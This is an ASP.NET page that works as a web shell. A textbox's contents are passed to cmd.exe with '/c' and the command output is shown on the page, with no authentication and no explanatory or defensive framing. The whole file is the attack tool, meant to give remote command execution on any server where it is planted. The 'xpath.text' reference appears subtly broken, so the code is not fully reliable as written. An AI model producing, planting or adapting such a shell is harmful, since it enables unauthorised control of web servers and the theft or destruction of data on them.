<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
protected void Run_Click(object sender, EventArgs e)
{
    ProcessStartInfo info = new ProcessStartInfo();
    info.FileName = "cmd.exe";
    info.Arguments = "/c " + xpath.text;
    info.UseShellExecute = false;
    info.RedirectStandardOutput = true;
    Process p = Process.Start(info);
    output.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());
}
</script>
<html><body><form runat="server">
<asp:TextBox ID="xpath" runat="server" Width="600px" />
<asp:Button ID="go" runat="server" Text="Go" OnClick="Run_Click" />
<pre><asp:Literal ID="output" runat="server" /></pre>
</form></body></html>
